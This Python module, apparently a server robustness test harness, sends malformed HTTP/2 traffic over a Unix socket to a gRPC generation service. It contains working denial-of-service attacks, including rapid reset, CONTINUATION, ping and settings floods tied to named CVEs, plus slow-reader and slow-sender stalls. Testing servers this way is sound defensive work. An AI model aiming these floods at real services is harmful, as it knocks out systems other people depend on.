"""HTTP/2 that no client should speak, frame by frame (RFC 9113). An attack is one connection; it returns its frames."""

from __future__ import annotations

import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
GENERATE = "/dynatree.v1.DraftService/Generate"
FLOOD = 500  # frames of one attack


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame: length, type, flags, stream, payload (section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """A header that enters no table, with lengths below 127 or as far as they go (RFC 7541, section 6.2.2)."""
    return b"\0" + b"".join(_length(len(text)) + text.encode() for text in (name, value))


def _length(number: int) -> bytes:
    if number < 127:
        return bytes([number])
    encoded, number = bytearray([127]), number - 127
    while number >= 128:
        encoded.append(number % 128 + 128)
        number //= 128
    return bytes([*encoded, number])


def call_headers(*more: tuple[str, str]) -> bytes:
    """The headers of a call."""
    usual = ((":method", "POST"), (":scheme", "http"), (":path", GENERATE), (":authority", "x"), ("te", "trailers"))
    return b"".join(header(*each) for each in (*usual, ("content-type", "application/grpc"), *more))


@contextmanager
def connection(path: str) -> Iterator[socket.socket]:
    """A connection to a Unix socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as opened:
        opened.settimeout(1.0)
        opened.connect(path)
        yield opened


def send(opened: socket.socket, data: bytes) -> None:
    """Send what the peer takes; it may hang up, and it need not read."""
    with suppress(OSError):
        opened.sendall(data)


def garbage(path: str, generator: random.Random) -> int:
    """Bytes without sense, with and without the preface."""
    with connection(path) as opened:
        send(opened, generator.choice((b"", PREFACE, b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01")))
        send(opened, generator.randbytes(generator.choice((1, 100, 20_000))))
    return 1


def random_frames(path: str, generator: random.Random) -> int:
    """Frames of every type with any flags, streams and payloads, whose length may be another one than it says."""
    with connection(path) as opened:
        send(opened, PREFACE + frame(SETTINGS, 0, 0))
        count = generator.randrange(1, 40)
        for _ in range(count):
            payload = generator.randbytes(generator.choice((0, 1, 4, 5, 8, 9, 64, 5000)))
            made = frame(generator.randrange(12), generator.randrange(256), generator.choice((0, 1, 2, 3, 5)), payload)
            send(opened, made[: generator.choice((len(made), len(made), len(made), 9, 4))])
    return count


def pings(path: str, generator: random.Random) -> int:
    """Many pings (CVE-2019-9512)."""
    return _flood(path, frame(PING, 0, 0, b"12345678"))


def settings(path: str, generator: random.Random) -> int:
    """Many settings, each of which is to be acknowledged (CVE-2019-9515)."""
    return _flood(path, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, generator.randrange(2**31))))


def empty_frames(path: str, generator: random.Random) -> int:
    """Empty frames of data (CVE-2019-9518)."""
    return _flood(path, frame(HEADERS, END_HEADERS, 1, call_headers()), *[frame(DATA, 0, 1)] * FLOOD)


def rapid_resets(path: str, generator: random.Random) -> int:
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    opened = (frame(HEADERS, END_HEADERS, 2 * number + 1, call_headers()) for number in range(FLOOD))
    reset = (frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8)) for number in range(FLOOD))
    return _flood(path, *(each for pair in zip(opened, reset, strict=True) for each in pair))


def many_streams(path: str, generator: random.Random) -> int:
    """More calls than a connection may have, all left open."""
    return _flood(path, *(frame(HEADERS, END_HEADERS, 2 * number + 1, call_headers()) for number in range(3 * FLOOD)))


def continuations(path: str, generator: random.Random) -> int:
    """Headers that never end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, header("x-a", "b" * 100) * 20)
    return _flood(path, frame(HEADERS, 0, 1, call_headers()), *[more] * FLOOD)


def large_headers(path: str, generator: random.Random) -> int:
    """More metadata than is taken."""
    long = call_headers(("x-long", "a" * 100_000))
    pieces = [long[place : place + 16_000] for place in range(0, len(long), 16_000)]
    frames = [frame(HEADERS, 0, 1, pieces[0])]
    frames += [frame(CONTINUATION, END_HEADERS * (piece is pieces[-1]), 1, piece) for piece in pieces[1:]]
    return _flood(path, *frames)


def windows(path: str, generator: random.Random) -> int:
    """Windows that overflow, or grow by nothing."""
    grown = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", generator.choice((0, 1, 2**31 - 1))))
    return _flood(path, grown)


def slow_reader(path: str, generator: random.Random) -> int:
    """A completion whose caller takes not one byte of it."""
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    request = b"\x0a\x04Once\x18\x40"  # text, and 64 new tokens
    message = struct.pack(">BI", 0, len(request)) + request
    with connection(path) as opened:
        send(opened, PREFACE + no_window + frame(HEADERS, END_HEADERS, 1, call_headers()))
        send(opened, frame(DATA, END_STREAM, 1, message))
        time.sleep(0.2)
    return 4


def slow_sender(path: str, generator: random.Random) -> int:
    """A preface that comes byte by byte, and a message that never ends."""
    with connection(path) as opened:
        for place in range(len(PREFACE)):
            send(opened, PREFACE[place : place + 1])
            time.sleep(0.005)
        send(opened, frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, call_headers()))
        send(opened, frame(DATA, 0, 1, struct.pack(">BI", 0, 2**32 - 1) + b"\x0a"))
    return 4


def _flood(path: str, *frames: bytes) -> int:
    sent = frames * (FLOOD if len(frames) == 1 else 1)
    with connection(path) as opened:
        send(opened, PREFACE + frame(SETTINGS, 0, 0))
        send(opened, b"".join(sent))
        with suppress(OSError):
            opened.recv(65536)
    return len(sent)


ATTACKS: tuple[Callable[[str, random.Random], int], ...] = (
    garbage,
    random_frames,
    pings,
    settings,
    empty_frames,
    rapid_resets,
    many_streams,
    continuations,
    large_headers,
    windows,
    slow_reader,
    slow_sender,
)
